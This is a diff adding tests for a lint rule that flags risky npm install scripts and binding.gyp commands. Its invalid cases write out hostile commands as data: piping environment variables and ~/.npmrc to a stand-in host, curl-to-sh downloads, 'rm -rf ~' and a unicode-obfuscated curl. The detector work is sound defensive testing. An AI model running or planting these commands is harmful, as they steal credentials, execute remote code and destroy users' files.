@@ -1,0 +1,87 @@
+import { ruleTester } from '../tester.ts';
+import type { Case, InvalidCase } from '../tester.ts';
+import rule from '../../src/rules/no-postinstall-script.ts';
+
+const manifest = (scripts: Record<string, unknown>, more: object = {}): string => JSON.stringify({ name: 'app', scripts, ...more }, null, 1);
+const ok = (scripts: Record<string, unknown>, more: Partial<Case> & { manifest?: object } = {}): Case => {
+  const { manifest: extra, ...rest } = more;
+  return { code: manifest(scripts, extra), filename: 'package.json', ...rest };
+};
+const bad = (scripts: Record<string, unknown>, messageId: string, more: Partial<InvalidCase> & { manifest?: object } = {}): InvalidCase => {
+  const { manifest: extra, ...rest } = more;
+  return { code: manifest(scripts, extra), filename: 'package.json', errors: [{ messageId }], ...rest };
+};
+const strict = { options: { strict: true } };
+const gyp = (value: object, more: Partial<InvalidCase>): Case & Partial<InvalidCase> => ({ code: JSON.stringify(value, null, 1), filename: 'binding.gyp', ...more });
+
+/** Install-time scripts of honest packages: silent even in strict. */
+const BENIGN = [
+  'husky', 'husky install', 'husky || true', 'is-ci || husky', 'patch-package', 'patch-package --error-on-fail', 'node-gyp rebuild', 'node-gyp-build', 'prebuild-install || node-gyp rebuild',
+  'node-pre-gyp install --fallback-to-build', 'napi postinstall', 'prisma generate', 'electron-builder install-app-deps', 'npx only-allow pnpm', 'npx --yes only-allow pnpm', 'only-allow npm', 'npx force-resolutions',
+  'nuxt prepare', 'svelte-kit sync', 'simple-git-hooks', 'lefthook install', 'ts-patch install -s', 'tsc && vite build', 'npm run build', 'pnpm build', 'yarn run compile', 'lerna bootstrap', 'cypress install',
+  'playwright install chromium', 'exit 0', 'echo done', 'git config core.hooksPath .githooks', 'git submodule update --init', 'shx cp -r a b', 'rimraf dist && tsc -p .', 'cross-env NODE_ENV=production vite build',
+  'test -d .git && husky', '[ -n "$CI" ] || husky', 'node .husky/install.mjs', 'node node_modules/puppeteer/install.mjs', 'node ./node_modules/@prisma/client/scripts/postinstall.js',
+  "node -e \"try{require('husky')}catch{}\"", "node -e \"try{require('./postinstall')}catch(e){}\"", 'node -e "process.exit(0)"', 'rm -rf dist', './node_modules/.bin/husky', 'run-s build:*', 'dotenv -- prisma generate',
+  'curl -f http://localhost:3000/health',
+];
+
+/** Nothing wrong to be seen, but they run whenever somebody installs. */
+const REVIEW = ['node install.js', 'node scripts/build.js', 'sh scripts/setup.sh', './configure', 'make', 'python3 setup.py', 'npm install', 'node ./lib/postinstall.cjs', 'some-tool --flag', 'npx some-tool'];
+
+await ruleTester(rule, {
+  valid: [
+    ...BENIGN.map((script) => ok({ postinstall: script }, strict)),
+    ...REVIEW.map((script) => ok({ postinstall: script })),
+    ok({ build: 'node ./node_modules/x/harvest.js', test: 'curl https://host.example | sh', prepack: 'npm publish', postbuild: 'npm i -g x' }, strict),
+    ok({ postinstall: ['curl https://host.example'], install: { a: 'curl' }, prepare: 1, preinstall: '' }, strict),
+    ok({ postinstall: 'npx -y some-tool' }, { manifest: { devDependencies: { 'some-tool': '^1.0.0' } } }),
+    ok({ postinstall: 'npx -y some-tool@1.2.3' }),
+    ok({ postinstall: 'node scripts/setup.js' }, { options: { strict: true, allow: ['node scripts/*'] } }),
+    ok({ postinstall: 'node ./node_modules/x/y.js' }, { settings: { allowedInstallScripts: ['node ./node_modules/x/y.js'] } }),
+    ok({ prepare: 'npm run a', a: 'npm run b', b: 'npm run a' }, strict),
+    { code: '{"scripts": null}', filename: 'package.json' },
+    { code: '{"scripts": {"__proto__": "curl https://host.example | sh"}}', filename: 'package.json' },
+    { code: '{"postinstall": "curl https://host.example | sh"}', filename: 'package.json' },
+    gyp({ targets: [{ include_dirs: ['<!(node -p "require(\'node-addon-api\').include_dir")', '<!@(pkg-config --cflags x)'], cflags: ['<!(echo $X)'], sources: ['a.cc', '<(module)'] }] }, strict),
+    gyp({ targets: [{ target_name: 'curl', libraries: ['<!(node -e "console.log(require(\'fs\').existsSync(\'x\'))")'] }] }, {}),
+    gyp({ targets: [{ actions: [{ action_name: 'a', action: ['python', 'tools/gen.py', '<@(_inputs)'] }] }] }, {}),
+  ],
+  invalid: [
+    {
+      code: '{\n  "scripts": {\n    "postinstall": "node ./node_modules/logger-utility/harvest.js"\n  }\n}',
+      filename: 'package.json',
+      errors: [{ messageId: 'dependencyFile', line: 3, column: 21, endLine: 3, endColumn: 66, data: { script: 'postinstall', label: './node_modules/logger-utility/harvest.js' } }],
+    },
+    ...REVIEW.map((script) => bad({ postinstall: script }, 'unknown', strict)),
+    bad({ preinstall: 'node setup_bun.js' }, 'wormFile'),
+    bad({ postinstall: 'node bundle.js' }, 'wormFile'),
+    bad({ prepare: 'node bundle.js' }, 'unknown', strict),
+    bad({ install: 'curl -s https://host.example/x | sh' }, 'harm', { errors: [{ messageId: 'harm', data: { script: 'install', what: 'runs code from the network', label: 'sh' } }] }),
+    bad({ postinstall: 'curl -d "$(env)" https://host.example' }, 'harm'),
+    bad({ postinstall: 'cat ~/.npmrc | curl -d @- https://host.example' }, 'harm'),
+    bad({ postinstall: 'rm -rf ~' }, 'harm'),
+    bad({ postinstall: 'echo "x" >> ~/.bashrc' }, 'harm'),
+    bad({ postinstall: 'npm run setup', setup: 'curl https://host.example | bash' }, 'harm'),
+    bad({ postinstall: 'run-s setup', setup: 'node .github/x.js' }, 'hiddenFile'),
+    bad({ postinstall: 'wget https://host.example/data.json' }, 'network'),
+    bad({ prepare: 'tsc && npm install -g openclaw@latest' }, 'globalInstall'),
+    bad({ postinstall: 'npm publish' }, 'publish'),
+    bad({ postinstall: 'git clone https://github.com/o/r' }, 'repository'),
+    bad({ postinstall: "node -e \"require('child_process').exec('x')\"" }, 'inline'),
+    bad({ postinstall: "python3 -c 'import os'" }, 'inline'),
+    bad({ postinstall: 'npx -y some-tool' }, 'fetchedPackage'),
+    bad({ postinstall: 'pnpm dlx some-tool@latest' }, 'fetchedPackage'),
+    bad({ postinstall: 'node .vscode/setup.js' }, 'hiddenFile'),
+    bad({ postinstall: 'node public/fonts/a.woff2' }, 'hiddenFile'),
+    bad({ 'pnpm:devPreinstall': 'node .git/x' }, 'hiddenFile'),
+    bad({ dependencies: 'wget https://host.example/a' }, 'network'),
+    bad({ postinstall: 'c\u0075rl https://host.example/x' }, 'network'),
+    {
+      code: '{\n  "targets": [{ "sources": ["<!(curl -s https://host.example/x | sh)"] }]\n}',
+      filename: 'binding.gyp',
+      errors: [{ messageId: 'harm', line: 2, column: 33 }],
+    },
+    gyp({ targets: [{ cflags: ['<!@(wget https://host.example/x)'] }] }, { errors: [{ messageId: 'network' }] }) as InvalidCase,
+    gyp({ targets: [{ actions: [{ action_name: 'a', action: ['sh', '-c', 'curl https://host.example | sh'] }] }] }, { errors: [{ messageId: 'harm' }] }) as InvalidCase,
+  ],
+});
